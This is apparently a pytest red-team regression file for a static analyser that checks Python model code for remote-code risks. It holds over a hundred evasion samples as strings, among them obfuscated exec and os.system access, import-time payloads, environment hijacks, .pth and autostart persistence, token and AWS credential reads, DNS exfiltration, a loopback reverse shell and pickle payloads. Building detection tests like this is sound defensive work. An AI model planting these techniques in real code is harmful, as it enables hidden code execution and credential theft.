"""Red-team regressions for remote-code analysis: each case names the evasion it covers.

The code below is only ever parsed by aivet, never imported or run. Where a sample
would do something if it ran, it is a process call with a harmless argument, the
discard port of 127.0.0.1, or a marker file (:func:`marker_code`).
"""

from __future__ import annotations

import ast
import base64
import codecs
import pickle
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aivet.analyzers import pycode
from aivet.analyzers.context import Context, ScanOptions
from aivet.analyzers.pycode_recover import parse_recovering, risky_words
from aivet.analyzers.source import Source
from aivet.evidence import Finding, Severity
from aivet.formats import FormatError, LimitExceeded
from aivet.limits import DEFAULT_LIMITS, Limits
from tests.fixtures import marker_code, marker_path, unmet_expectation
from tests.fixtures.python_files import MODELING_REALISTIC, build
from tests.fixtures.work import HANG_TIMEOUT, growth, python_lines

C, H, M, L = Severity.CRITICAL, Severity.HIGH, Severity.MEDIUM, Severity.LOW


def found(code: str | bytes, limits: Limits = DEFAULT_LIMITS) -> list[Finding]:
    ctx = Context("s", options=ScanOptions(limits=limits))
    data = code.encode() if isinstance(code, str) else code
    pycode.analyze(Source.from_bytes(data, "modeling_x.py"), ctx)
    findings: list[Finding] = ctx.findings
    return findings


def top(findings: list[Finding], rule_id: str) -> Severity | None:
    return max((f.severity for f in findings if f.rule_id == rule_id), default=None)


# (technique, code, rule that must fire, lowest acceptable severity of that rule)
BYPASSES: list[tuple[str, str, str, Severity]] = [
    # -- reaching exec/eval and os.system without writing their names ------------------------------------
    ("operator.attrgetter on builtins", "import operator, builtins\ndef f(x):\n    operator.attrgetter('exec')(builtins)(x)\n",
     "CODE-EXEC", H),
    ("operator.methodcaller on a module", "import operator, os\ndef f():\n    operator.methodcaller('system', 'id')(os)\n",
     "CODE-PROCESS", H),
    ("sys.modules.get", "import sys\nsys.modules.get('os').system('id')\n", "CODE-PROCESS", C),
    ("module __dict__.get", "import os\nos.__dict__.get('system')('id')\n", "CODE-PROCESS", C),
    ("__dict__.__getitem__", "import builtins\ndef f(x):\n    builtins.__dict__.__getitem__('exec')(x)\n", "CODE-EXEC", H),
    ("module.__getattribute__", "import os\nos.__getattribute__('sys' + 'tem')('id')\n", "CODE-PROCESS", C),
    ("object.__getattribute__", "import os\nobject.__getattribute__(os, 'system')('id')\n", "CODE-PROCESS", C),
    ("callable.__call__", "import os\nos.system.__call__('id')\n", "CODE-PROCESS", C),
    ("pkgutil.resolve_name", "import pkgutil\npkgutil.resolve_name('os:system')('id')\n", "CODE-PROCESS", C),
    ("pydoc.locate", "import pydoc\npydoc.locate('subprocess.check_output')('id')\n", "CODE-PROCESS", C),
    ("str.format builds the name", "import os\ngetattr(os, '{}{}'.format('sys', 'tem'))('id')\n", "CODE-PROCESS", C),
    ("%-formatting builds the name", "import os\ngetattr(os, '%s%s' % ('sys', 'tem'))('id')\n", "CODE-PROCESS", C),
    ("tuple-unpacking alias", "import os\nrun, n = os.system, 1\nrun('id')\n", "CODE-PROCESS", C),
    ("default argument binds the module", "def f(o=__import__('os')):\n    o.system('id')\n", "CODE-PROCESS", H),
    ("default argument shadows eval", "def f(x, eval=eval):\n    return eval(x)\n", "CODE-EXEC", H),
    ("lambda default binds eval", "f = lambda x, e=eval: e(x)\n", "CODE-EXEC", H),
    ("walrus alias", "def f(x):\n    (g := exec)(x)\n", "CODE-EXEC", H),
    ("alias rebound in dead code (flat scoping)", "import os\ns = os.system\ns('id')\ndef _unused():\n    s = open\n",
     "CODE-PROCESS", H),
    ("torch.ops.load_library", "import torch\ndef f():\n    torch.ops.load_library('/tmp/x.so')\n", "CODE-NATIVE", M),
    ("alias in a dict", "import os\nd = {'x': os.system}\nd['x']('id')\n", "CODE-PROCESS", H),
    ("alias in a list", "import os\nfns = [os.system]\nfns[0]('id')\n", "CODE-PROCESS", H),
    ("class attribute alias", "import os\nclass A:\n    run = os.system\nA.run('id')\n", "CODE-PROCESS", H),
    ("decorator is os.system", "import os\n@os.system\ndef id():\n    pass\n", "CODE-PROCESS", H),
    ("functools.partial", "import functools, os\nfunctools.partial(os.system, 'id')()\n", "CODE-PROCESS", H),
    ("map(eval, ...)", "def f(xs):\n    return list(map(eval, xs))\n", "CODE-EXEC", H),
    ("executor.submit(os.system)", "import os\nfrom concurrent.futures import ThreadPoolExecutor\n"
     "ThreadPoolExecutor().submit(os.system, 'id')\n", "CODE-PROCESS", H),
    ("atexit.register(getattr(...))", "import atexit, os\natexit.register(getattr(os, 'sys' + 'tem'), 'id')\n",
     "CODE-PROCESS", H),
    ("posix module directly", "import posix\ndef f():\n    posix.system('id')\n", "CODE-PROCESS", H),
    ("os.fork daemon", "import os\ndef f():\n    os.fork()\n", "CODE-PROCESS", H),
    ("multiprocessing target", "import multiprocessing, os\nmultiprocessing.Process(target=os.system, args=('id',)).start()\n",
     "CODE-PROCESS", H),
    ("os reached as torch.os", "import torch\ntorch.os.system('id')\n", "CODE-PROCESS", C),
    ("os reached as os.path.os", "import os.path as osp\nosp.os.system('id')\n", "CODE-PROCESS", C),
    ("os reached as tempfile._os", "import tempfile\ntempfile._os.system('id')\n", "CODE-PROCESS", C),
    ("sys reached as logging.sys", "import logging\nlogging.sys.modules['os'].system('id')\n", "CODE-PROCESS", C),
    ("module re-exported by a sibling file", "from .utils import subprocess\nsubprocess.run(['id'])\n", "CODE-PROCESS", C),
    ("function imported to be re-exported", "from os import system as run_kernel\n", "CODE-PROCESS", H),
    ("__builtins__.get (the dict form)", "def f(x):\n    __builtins__.get('ev' + 'al')(x)\n", "CODE-EXEC", H),
    ("print.__self__ is builtins", "def f(x):\n    print.__self__.eval(x)\n", "CODE-EXEC", H),
    # -- exec through stdlib helpers and loaders -----------------------------------------------------------
    ("code.InteractiveConsole.push", "import code\ndef f(x):\n    code.InteractiveConsole().push(x)\n", "CODE-EXEC", H),
    ("timeit runs a string", "import timeit\ntimeit.timeit(\"print(1)\", number=1)\n", "CODE-EXEC", C),
    ("importlib spec_from_file_location", "import importlib.util\n"
     "s = importlib.util.spec_from_file_location('m', '/tmp/m.py')\nm = importlib.util.module_from_spec(s)\n"
     "s.loader.exec_module(m)\n", "CODE-EXEC", C),
    ("zipimport", "import zipimport\nzipimport.zipimporter('/tmp/x.zip').load_module('x')\n", "CODE-EXEC", C),
    ("hf_hub_download of a .py", "from huggingface_hub import hf_hub_download\n"
     "def f():\n    return hf_hub_download('a/b', 'evil.py')\n", "CODE-HUB-DOWNLOAD", H),
    # -- decoded payloads the folder cannot see --------------------------------------------------------------
    ("chr() appended in a loop", "s = ''\nfor c in [105, 100]:\n    s += chr(c)\nexec(s)\n", "CODE-OBFUSCATED-EXEC", C),
    ("decoder result in a variable", "import zlib\ndef f(data):\n    code = zlib.decompress(data)\n    exec(code)\n",
     "CODE-OBFUSCATED-EXEC", C),
    ("xor decoder", "def f(data):\n    exec(bytes(b ^ 42 for b in data))\n", "CODE-OBFUSCATED-EXEC", C),
    ("str.translate cipher", "def f(s, t):\n    exec(s.translate(t))\n", "CODE-OBFUSCATED-EXEC", C),
    ("payload in the module docstring", '"""import os\nos.system(\'id\')"""\nexec(__doc__)\n', "CODE-PROCESS", C),
    # -- bodies that run at import without being called by name ---------------------------------------------------
    ("metaclass __new__", "import os\nclass M(type):\n    def __new__(m, n, b, d):\n        os.system('id')\n"
     "        return super().__new__(m, n, b, d)\nclass A(metaclass=M):\n    pass\n", "CODE-PROCESS", C),
    ("__init_subclass__", "import os\nclass B:\n    def __init_subclass__(cls):\n        os.system('id')\n"
     "class C(B):\n    pass\n", "CODE-PROCESS", C),
    ("__set_name__ descriptor", "import os\nclass D:\n    def __set_name__(self, owner, name):\n        os.system('id')\n"
     "class A:\n    x = D()\n", "CODE-PROCESS", C),
    ("instance made at import", "import os\nclass P:\n    def __init__(self):\n        os.system('id')\nP()\n",
     "CODE-PROCESS", C),
    ("__del__ of a dropped instance", "import os\nclass P:\n    def __del__(self):\n        os.system('id')\nP()\n",
     "CODE-PROCESS", C),
    ("self.method() chain", "import os\nclass P:\n    def __init__(self):\n        self.go()\n    def go(self):\n"
     "        os.system('id')\nP()\n", "CODE-PROCESS", C),
    ("lambda bound and called", "import os\nrun = lambda: os.system('id')\nrun()\n", "CODE-PROCESS", C),
    ("lambda called in place", "import os\n(lambda: os.system('id'))()\n", "CODE-PROCESS", C),
    ("@atexit.register", "import atexit, os\n@atexit.register\ndef bye():\n    os.system('id')\n", "CODE-PROCESS", C),
    ("Thread(target=payload)", "import threading, os\ndef payload():\n    os.system('id')\n"
     "threading.Thread(target=payload).start()\n", "CODE-PROCESS", C),
    ("threading.Timer delay", "import threading, os\ndef payload():\n    os.system('id')\nthreading.Timer(30, payload).start()\n",
     "CODE-PROCESS", C),
    # -- environment, monkeypatching and hooks -------------------------------------------------------------------
    ("LD_PRELOAD", "import os\nos.environ['LD_PRELOAD'] = '/tmp/x.so'\n", "CODE-ENV-HIJACK", H),
    ("os.putenv", "import os\nos.putenv('LD_PRELOAD', '/tmp/x.so')\n", "CODE-ENV-HIJACK", H),
    ("environ.update keywords", "import os\nos.environ.update(PIP_INDEX_URL='http://127.0.0.1:9/')\n", "CODE-ENV-HIJACK", H),
    ("environ |= dict", "import os\nos.environ |= {'HF_ENDPOINT': 'http://127.0.0.1:9'}\n", "CODE-ENV-HIJACK", H),
    ("PYTHONPATH", "import os\nos.environ['PYTHONPATH'] = '/tmp/x'\n", "CODE-ENV-HIJACK", M),
    ("setattr on transformers", "import transformers\ndef evil(*a, **k):\n    pass\n"
     "setattr(transformers.PreTrainedModel, 'from_pretrained', evil)\n", "CODE-MONKEYPATCH", H),
    ("torch.load replaced", "import torch\ndef my(*a, **k):\n    pass\ntorch.load = my\n", "CODE-MONKEYPATCH", H),
    ("builtins.open replaced", "import builtins\ndef my_open(*a, **k):\n    pass\nbuiltins.open = my_open\n",
     "CODE-MONKEYPATCH", H),
    ("__builtins__ item replaced", "def my_open(*a, **k):\n    pass\n__builtins__['open'] = my_open\n", "CODE-MONKEYPATCH", H),
    ("sys.modules entry replaced", "import sys\nclass Fake:\n    pass\nsys.modules['transformers'] = Fake()\n",
     "CODE-MONKEYPATCH", H),
    ("function __code__ swapped", "def g():\n    pass\ndef f(c):\n    g.__code__ = c\n", "CODE-DESERIALIZATION", H),
    ("sys.settrace", "import sys\ndef t(*a):\n    return t\nsys.settrace(t)\n", "CODE-HOOK", M),
    ("sys.addaudithook", "import sys\nsys.addaudithook(lambda e, a: None)\n", "CODE-HOOK", M),
    ("sys.excepthook", "import sys\ndef h(*a):\n    pass\nsys.excepthook = h\n", "CODE-HOOK", M),
    ("sys.meta_path finder", "import sys\nclass F:\n    pass\nsys.meta_path.insert(0, F())\n", "CODE-HOOK", M),
    ("module class swapped", "import sys\nclass M:\n    pass\nsys.modules[__name__].__class__ = M\n",
     "CODE-MONKEYPATCH", H),
    ("builtins.__import__ replaced", "import builtins\ndef imp(*a):\n    pass\nbuiltins.__import__ = imp\n",
     "CODE-HOOK", M),
    ("codecs.register search function", "import codecs\ncodecs.register(lambda name: None)\n", "CODE-HOOK", M),
    ("sys.path outside the repository", "import sys\nsys.path.insert(0, '/tmp/evil')\n", "CODE-HOOK", M),
    ("signal handler with a payload", "import signal, os\nsignal.signal(signal.SIGTERM, lambda *a: os.system('id'))\n",
     "CODE-PROCESS", H),
    ("signal handler from elsewhere", "import signal\nfrom helpers import on_term\nsignal.signal(signal.SIGTERM, on_term)\n",
     "CODE-HOOK", M),
    ("atexit of an imported callable", "import atexit, shutil\natexit.register(shutil.rmtree, '/tmp/x')\n", "CODE-HOOK", M),
    # -- introspection escapes -------------------------------------------------------------------------------------
    ("().__class__.__base__.__subclasses__()", "def f():\n    return ().__class__.__base__.__subclasses__()\n",
     "CODE-OBFUSCATION", H),
    ("__globals__['system']", "def f(g):\n    g.__init__.__globals__['system']('id')\n", "CODE-OBFUSCATION", H),
    # -- files: persistence, writes outside, self-deletion ----------------------------------------------------------
    (".pth into site-packages (unfoldable path)", "import site\n"
     "open(site.getsitepackages()[0] + '/x.pth', 'w').write('import os')\n", "CODE-PERSISTENCE", C),
    (".pth path through a variable", "import site, os\np = os.path.join(site.getusersitepackages(), 'x.pth')\n"
     "with open(p, 'w') as fh:\n    fh.write('import os')\n", "CODE-PERSISTENCE", C),
    ("copy destination is the second argument", "import shutil\ndef f():\n    shutil.copy('x', '/usr/bin/x')\n",
     "CODE-WRITE-OUTSIDE", H),
    ("copy into autostart", "import shutil, os\n"
     "shutil.copy(__file__, os.path.expanduser('~/.config/autostart/x.desktop'))\n", "CODE-PERSISTENCE", C),
    ("Path(...).expanduser().write_text", "from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')\n",
     "CODE-PERSISTENCE", C),
    ("deletes its own source", "import os\nos.remove(__file__)\n", "CODE-OBFUSCATION", H),
    # -- credentials and exfiltration ----------------------------------------------------------------------------------
    ("huggingface_hub HF_TOKEN_PATH constant", "from huggingface_hub.constants import HF_TOKEN_PATH\n"
     "def f():\n    return open(HF_TOKEN_PATH).read()\n", "CODE-CREDENTIAL-ACCESS", M),
    ("get_stored_tokens", "import huggingface_hub\ndef f():\n    return huggingface_hub.get_stored_tokens()\n",
     "CODE-CREDENTIAL-ACCESS", M),
    ("secret names in a loop", "import os\nKEYS = ['HF_TOKEN', 'OPENAI_API_KEY']\n"
     "def f():\n    return {k: os.environ.get(k) for k in KEYS}\n", "CODE-SECRET-ENV", M),
    ("whole environment copied", "import os\ndef f():\n    return dict(os.environ)\n", "CODE-SECRET-ENV", M),
    ("DNS exfiltration", "import socket, os\ndef f():\n    t = os.environ['HF_TOKEN']\n"
     "    socket.gethostbyname(t + '.example.invalid')\n", "CODE-EXFILTRATION", C),
    ("webbrowser beacon", "import webbrowser\ndef f():\n    webbrowser.open('http://127.0.0.1:9/')\n", "CODE-NETWORK", M),
    # -- deserialisation -----------------------------------------------------------------------------------------------
    ("yaml.load with UnsafeLoader", "import yaml\ndef f(s):\n    return yaml.load(s, Loader=yaml.UnsafeLoader)\n",
     "CODE-DESERIALIZATION", H),
    ("torch.load weights_only=False", "import torch\ndef f():\n    return torch.load('extra.bin', weights_only=False)\n",
     "CODE-UNSAFE-TORCH-LOAD", H),
    ("torch.hub.load_state_dict_from_url", "import torch\ndef f():\n"
     "    return torch.hub.load_state_dict_from_url('http://127.0.0.1:9/x.pt')\n", "CODE-UNSAFE-TORCH-LOAD", H),
    ("torch.load with a pickle_module (turns weights_only off)", "import torch, pickle\ndef f():\n"
     "    return torch.load('extra.bin', pickle_module=pickle)\n", "CODE-UNSAFE-TORCH-LOAD", H),
    ("TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD", "import os\nos.environ['TORCH_FORCE_NO_WEIGHTS_ONLY_LOAD'] = '1'\n",
     "CODE-ENV-HIJACK", H),
    ("torch.serialization.add_safe_globals", "import torch, os\ntorch.serialization.add_safe_globals([os.system])\n",
     "CODE-UNSAFE-TORCH-LOAD", M),
    # -- more roads to code from elsewhere -----------------------------------------------------------------------------
    ("torch.hub.load runs hubconf.py", "import torch\nm = torch.hub.load('a/b', 'model')\n", "CODE-NESTED-REMOTE-CODE", H),
    ("trust_remote_code through a name", "from transformers import AutoModel\nT = True\ndef f():\n"
     "    AutoModel.from_pretrained('x/y', trust_remote_code=T)\n", "CODE-NESTED-REMOTE-CODE", H),
    ("trust_remote_code in **{...}", "from transformers import AutoModel\ndef f():\n"
     "    AutoModel.from_pretrained('x/y', **{'trust_remote_code': True})\n", "CODE-NESTED-REMOTE-CODE", H),
    ("ctypes.pythonapi.PyRun_SimpleString", "import ctypes\ndef f(s):\n    ctypes.pythonapi.PyRun_SimpleString(s)\n",
     "CODE-EXEC", H),
    ("import_module over a list of names", "import importlib\n"
     "mods = {m: importlib.import_module(m) for m in ['os', 'json']}\nmods['os'].system('id')\n", "CODE-DYNAMIC-IMPORT", H),
    ("PEP 562 module __getattr__", "import os\ndef __getattr__(name):\n    os.system('id')\n", "CODE-PROCESS", C),
    ("{**os.environ} sent out", "import os, requests\ndef f():\n"
     "    requests.post('http://127.0.0.1:9/', json={**os.environ})\n", "CODE-EXFILTRATION", C),
    ("os.open with numeric flags", "import os\ndef f():\n    os.open('/etc/x', 577)\n", "CODE-WRITE-OUTSIDE", H),
    ("poisons the transformers module cache", "import os\ndef f():\n    open(os.path.expanduser("
     "'~/.cache/huggingface/modules/transformers_modules/x/modeling.py'), 'w').write('x')\n", "CODE-PERSISTENCE", C),
    ("writes under HF_MODULES_CACHE", "from transformers.utils import HF_MODULES_CACHE\nimport os\ndef f():\n"
     "    open(os.path.join(HF_MODULES_CACHE, 'x.py'), 'w')\n", "CODE-PERSISTENCE", C),
]


# Techniques the analyzer already caught before this red-team pass, locked in so they stay caught.
ALREADY_CAUGHT: list[tuple[str, str, str, Severity]] = [
    ("getattr(__builtins__, built name)", "def f(x):\n    getattr(__builtins__, 'ex' + 'ec')(x)\n", "CODE-EXEC", H),
    ("globals()['__builtins__']", "def f(x):\n    globals()['__builtins__']['exec'](x)\n", "CODE-EXEC", H),
    ("vars(builtins)", "import builtins\ndef f(x):\n    vars(builtins)['exec'](x)\n", "CODE-EXEC", H),
    ("sys.modules['builtins']", "import sys\ndef f(x):\n    sys.modules['builtins'].exec(x)\n", "CODE-EXEC", H),
    ("from builtins import exec as run", "from builtins import exec as run\ndef f(x):\n    run(x)\n", "CODE-EXEC", H),
    ("e = eval", "e = eval\ndef f(x):\n    e(x)\n", "CODE-EXEC", H),
    ("__import__ of a built name", "__import__('o' + 's').system('id')\n", "CODE-PROCESS", C),
    ("import_module from an alias", "from importlib import import_module as im\nim('subprocess').run(['id'])\n",
     "CODE-PROCESS", C),
    ("star import", "from os import *\nsystem('id')\n", "CODE-PROCESS", C),
    ("annotation evaluated at import", "import os\nx: os.system('id') = 1\n", "CODE-PROCESS", C),
    ("comprehension at module level", "import os\n[os.system(c) for c in ['id']]\n", "CODE-PROCESS", C),
    ("match statement", "import os\nmatch 1:\n    case 1:\n        os.system('id')\n", "CODE-PROCESS", C),
    ("type() class with a lambda method", "import os\nT = type('T', (), {'__init__': lambda s: os.system('id')})\nT()\n",
     "CODE-PROCESS", H),
    ("rot13 attribute name", "import os, codecs\ngetattr(os, codecs.decode('flfgrz', 'rot13'))('id')\n", "CODE-PROCESS", C),
    ("reversed attribute name", "import os\ngetattr(os, 'metsys'[::-1])('id')\n", "CODE-PROCESS", C),
    ("bytes.fromhex payload", f"exec(bytes.fromhex({b'import os'.hex()!r}))\n", "CODE-OBFUSCATED-EXEC", C),
    ("base64 under rot13", f"import codecs, base64\nexec(base64.b64decode(codecs.decode("
     f"{codecs.encode(base64.b64encode(b'import os').decode(), 'rot13')!r}, 'rot13')))\n",
     "CODE-OBFUSCATED-EXEC", C),
    ("urlretrieve then exec", "import urllib.request\n"
     "p, _ = urllib.request.urlretrieve('http://127.0.0.1:9/x.py', '/tmp/x.py')\nexec(open(p).read())\n", "CODE-NETWORK", H),
    ("runpy of a downloaded file", "from huggingface_hub import hf_hub_download\nimport runpy\n"
     "runpy.run_path(hf_hub_download('a/b', 'evil.py'))\n", "CODE-EXEC", C),
    ("reverse shell", "import socket, subprocess, os\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\n"
     "os.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])\n", "CODE-PROCESS", C),
    ("~/.aws/credentials via pathlib", "import pathlib\ndef f():\n"
     "    return (pathlib.Path.home() / '.aws' / 'credentials').read_text()\n", "CODE-CREDENTIAL-ACCESS", M),
    ("ctypes at import", "import ctypes\nctypes.CDLL(None).system(b'id')\n", "CODE-NATIVE", H),
]


@pytest.mark.parametrize(("technique", "code", "rule", "least"), BYPASSES + ALREADY_CAUGHT,
                         ids=[b[0] for b in BYPASSES + ALREADY_CAUGHT])
def test_bypass_is_caught(technique: str, code: str, rule: str, least: Severity) -> None:
    findings = found(code)
    sev = top(findings, rule)
    assert sev is not None and sev >= least, (technique, [(f.rule_id, f.severity.value, f.message) for f in findings])


@pytest.mark.parametrize("code", [
    "import atexit, torch\ndef _cleanup():\n    torch.cuda.empty_cache()\natexit.register(_cleanup)\n",
    "import signal, sys\ndef _stop(signum, frame):\n    sys.exit(0)\nsignal.signal(signal.SIGINT, _stop)\n",
    "import signal\nsignal.signal(signal.SIGPIPE, signal.SIG_DFL)\n",
    "import threading\ndef tick():\n    pass\nthreading.Timer(5.0, tick).start()\n",
])
def test_a_callback_written_in_the_file_is_a_low_hook(code: str) -> None:
    """Cleanup and signal handlers are common in real code; what they run is analysed as code that runs."""
    findings = found(code)
    assert top(findings, "CODE-HOOK") == Severity.LOW, [(f.rule_id, f.severity.value) for f in findings]
    assert all(f.severity < Severity.MEDIUM for f in findings), [(f.rule_id, f.severity.value) for f in findings]


def test_invalid_escapes_do_not_become_syntax_errors_under_warnings_as_errors() -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("error")
        findings = found("import os\nx = '\\e'\nos.system('id')\n")
    assert top(findings, "CODE-PROCESS") is C and top(findings, "CODE-SYNTAX-ERROR") is None


def test_safe_yaml_loader_is_quiet() -> None:
    assert found("import yaml\ndef f(s):\n    return yaml.load(s, Loader=yaml.SafeLoader)\n") == []


def test_format_specs_are_not_evaluated() -> None:
    # '{:>999999999}' would allocate a gigabyte if folded; it stays unknown (exec of unknown data: high).
    for code in ("x = '{:>999999999}'.format('a')\nexec(x)\n", "x = '%999999999s' % 'a'\nexec(x)\n",
                 "x = '{0.__class__}'.format(1)\nexec(x)\n"):
        findings = found(code)
        assert top(findings, "CODE-EXEC") is not None and top(findings, "CODE-OBFUSCATED-EXEC") is None, code


@pytest.mark.timeout(HANG_TIMEOUT)
def test_format_folding_work_is_linear() -> None:
    def work(n: int) -> int:
        code = f"import os\ngetattr(os, ({'{a}' * n!r}).format(a='s'))\n"
        return python_lines(lambda: found(code))[1]

    assert growth(work, 2000) < 6


def test_embedded_pickle_is_analysed_not_loaded(marker_dir: Path) -> None:
    class Payload:
        def __reduce__(self) -> tuple[object, tuple[str]]:
            return exec, (marker_code(marker_dir, "pycode-embedded-pickle"),)

    blob = pickle.dumps(Payload(), protocol=2)
    for code in (f"import pickle\nobj = pickle.loads({blob!r})\n",
                 f"import torch, io, base64\nsd = torch.load(io.BytesIO(base64.b64decode({base64.b64encode(blob).decode()!r})))\n"):
        findings = found(code)
        assert any(f.rule_id.startswith("PICKLE-") and f.severity >= H for f in findings), code
    assert not marker_path(marker_dir, "pycode-embedded-pickle").exists()


def _fold(expr: str) -> str | None:
    from aivet.analyzers.pyfold import FoldBudget, Resolver

    tree = ast.parse(expr)
    value = tree.body[0]
    assert isinstance(value, ast.Expr)
    folded = Resolver(tree, 1 << 20, FoldBudget(100_000)).fold(value.value)
    return folded.text if folded is not None else None


@settings(max_examples=200, deadline=None)
@given(st.text(st.sampled_from("{}%s0123ak:!r.[]x "), max_size=16))
def test_formatting_folds_exactly_like_python_or_not_at_all(template: str) -> None:
    # Differential: whenever the folder claims a value, Python computes the same one.
    for expr, real in ((f"{template!r}.format('A', 'B', k='K')", lambda: template.format("A", "B", k="K")),
                       (f"{template!r} % ('A', 'B')", lambda: template % ("A", "B"))):
        got = _fold(expr)
        if got is not None:
            assert got == real(), expr


# -- source encodings and syntax a newer Python accepts ------------------------------------------------------------

@pytest.mark.parametrize(("technique", "data"), [
    ("utf-7 cookie hides a line break in a comment", b"# -*- coding: utf-7 -*-\nx = 1 # +AAo-import os+AAo-os.system('id')\n"),
    ("unicode_escape cookie", b"# coding: unicode_escape\nimport os\\nos.system('id')\n"),
    ("raw_unicode_escape cookie", b"# coding: raw_unicode_escape\nimport os\n\\u006fs.system('id')\n"),
    ("NUL byte before the payload", b"x = 1\n\x00\nimport os\nos.system('id')\n"),
])
def test_source_encoding_tricks(technique: str, data: bytes) -> None:
    findings = found(data)
    assert top(findings, "CODE-PROCESS") is C, technique


@pytest.mark.parametrize(("technique", "code"), [
    ("PEP 695 type statement", "type Vec = list[float]\nimport os\nos.system('id')\n"),
    ("PEP 695 generic function", "import os\ndef first[T](xs: list[T]) -> T:\n    return xs[0]\nos.system('id')\n"),
    ("PEP 695 generic class holding the payload", "import subprocess\nclass Box[T]:\n    subprocess.run(['id'])\n"),
    ("PEP 758 except without brackets", "import os\ntry:\n    pass\nexcept ValueError, TypeError:\n    os.system('id')\n"),
    ("PEP 750 t-string holding the payload", "import os\ngreeting = t'hi {os.system(\"id\")}'\n"),
])
def test_newer_syntax_is_read_in_its_older_spelling(technique: str, code: str) -> None:
    # Parses on 3.12+/3.14 and runs there: rewritten line by line (numbers kept) and analysed in full.
    findings = found(code)
    assert top(findings, "CODE-PROCESS") is C, technique
    assert top(findings, "CODE-SYNTAX-ERROR") is L


def test_newer_syntax_that_cannot_be_rewritten_skips_only_its_block() -> None:
    code = "import os\nname = f\"{'a' + \"b\"}\"\nos.system('id')\n"  # PEP 701 quotes on line 2
    findings = found(code)
    assert top(findings, "CODE-PROCESS") is C
    assert top(findings, "CODE-SYNTAX-ERROR") is M


@pytest.mark.parametrize(("technique", "code"), [
    ("payload inside a PEP 701 f-string", "import os\nx = f\"{os.system(\"id\")}\"\n"),
    ("builtins reached inside a PEP 701 f-string", "x = f\"{().__class__.__base__.__subclasses__()[\"0\"]}\"\n"),
])
def test_payload_in_unparsable_block_fails_closed_high(technique: str, code: str) -> None:
    findings = found(code)
    errors = [f for f in findings if f.rule_id == "CODE-SYNTAX-ERROR"]
    assert errors and errors[0].severity is H and errors[0].details["names"], technique


def test_padding_past_the_token_limit_keeps_the_payload_high() -> None:
    # Comments count as tokens (the estimate is an upper bound): padding makes the file unparsed, not clean.
    limits = replace(DEFAULT_LIMITS, max_python_tokens=5_000)
    findings = found("import os\nos.system('id')\n" + "# " + "pad " * 6_000 + "\n", limits)
    hit = [f for f in findings if f.rule_id == "SCAN-LIMIT-EXCEEDED"]
    assert hit and hit[0].severity is H and "system" in hit[0].details["names"]


def test_too_many_syntax_errors_give_up_closed() -> None:
    code = "".join(f"def f{i}(:\n    pass\n" for i in range(40)) + "import os\nos.system('id')\n"
    errors = [f for f in found(code) if f.rule_id == "CODE-SYNTAX-ERROR"]
    assert len(errors) == 1 and errors[0].severity is H and "nothing was analysed" in errors[0].message


def test_recovery_keeps_line_numbers() -> None:
    result = parse_recovering("x = 1\nprint 'py2'\n\ndef f():\n    return 2\n", 4)
    assert result.tree is not None and result.skipped == [(2, 3)]  # the block and its trailing blank line
    assert [n.lineno for n in result.tree.body] == [1, 4]


def test_imports_in_a_skipped_block_still_resolve() -> None:
    # 'except A, B' joins the block above it; the import there must not be lost with it.
    findings = found("import subprocess as sp\ntry:\n    pass\nexcept ValueError, TypeError\nsp.run(['id'])\n")
    assert top(findings, "CODE-PROCESS") is C


def test_risky_words_ignore_ordinary_model_code() -> None:
    text = "model.eval()\nx = torch.compile(m)\nre.compile('a')\ncfg = json.loads(s)\nimportlib.util.find_spec('x')\n"
    assert risky_words(text) == []
    assert risky_words("exec(x)\nsubprocess.run(y)\n") == ["exec", "subprocess"]


def test_newer_spellings_are_rewritten_in_place() -> None:
    from aivet.analyzers.pycode_recover import _rewrite

    assert _rewrite("type Pair[T] = tuple[T, T]\n") == "Pair = tuple[T, T]\n"
    assert _rewrite("async def f[T: int](x: T):\n") == "async def f(x: T):\n"
    assert _rewrite("except ValueError, TypeError as e:\n") == "except (ValueError, TypeError) as e:\n"
    assert _rewrite("x = t'hi {a}' + rt'b' + 'it'\n") == "x = f'hi {a}' + rf'b' + 'it'\n"


@pytest.mark.timeout(HANG_TIMEOUT)
def test_recovery_work_is_linear_in_file_size() -> None:
    def work(n: int) -> int:
        block = "print 'py2'\n" + "    x = 1\n" * n
        code = block * 20 + "import os\nos.system('id')\n"
        return python_lines(lambda: found(code))[1]

    assert growth(work, 200) < 6


@pytest.mark.timeout(HANG_TIMEOUT)
@pytest.mark.parametrize("shape", ["class chain", "references", "exec of a long expression"])
def test_new_checks_work_is_linear(shape: str) -> None:
    # Long inheritance chains (metaclass / __init_subclass__ lookups), many references to dangerous
    # callables, many exec calls whose argument names a long expression (decoder search).
    def code(n: int) -> str:
        if shape == "class chain":
            return "class C0:\n    pass\n" + "".join(
                f"class C{i}(C{i - 1}):\n    def __init_subclass__(cls):\n        pass\n" for i in range(1, n))
        if shape == "references":
            return "import os\n" + "".join(f"f{i} = [os.system, eval]\n" for i in range(n))
        return "x = " + "+".join(f"a{i}" for i in range(100)) + "\ndef f():\n" + "    exec(x)\n" * n

    def work(n: int) -> int:
        text = code(n)
        return python_lines(lambda: found(text))[1]

    assert growth(work, 100) < 6, shape


@pytest.mark.timeout(HANG_TIMEOUT)
def test_recovery_parses_are_bounded_by_the_token_budget() -> None:
    # Each retry re-parses the file: a file near the token limit gets only a few retries.
    limits = replace(DEFAULT_LIMITS, max_python_tokens=20_000)
    code = "".join(f"print 'T{i}'\n" + "x = 1\n" * 200 for i in range(30))  # about 18,000 tokens
    errors = [f for f in found(code, limits) if f.rule_id == "CODE-SYNTAX-ERROR"]
    assert errors and errors[0].details["errors"] <= 5  # the first parse and four retries, not 30


@pytest.mark.timeout(HANG_TIMEOUT)
@pytest.mark.parametrize("line", ["except " + "a," * 40_000 + "\n", "type " + "x" * 80_000 + "\n",
                                  "def f[" + "T," * 40_000 + "\n", "t'" * 40_000 + "\n"])
def test_rewrites_on_huge_lines_finish(line: str) -> None:
    # 'except a,a,a,...' without a colon backtracks quadratically in the rewrite pattern: long lines are not tried.
    from aivet.analyzers.pycode_recover import _rewrite

    assert _rewrite(line) == line
    findings = found("import os\n" + line + "os.system('id')\n")
    assert top(findings, "CODE-PROCESS") is C


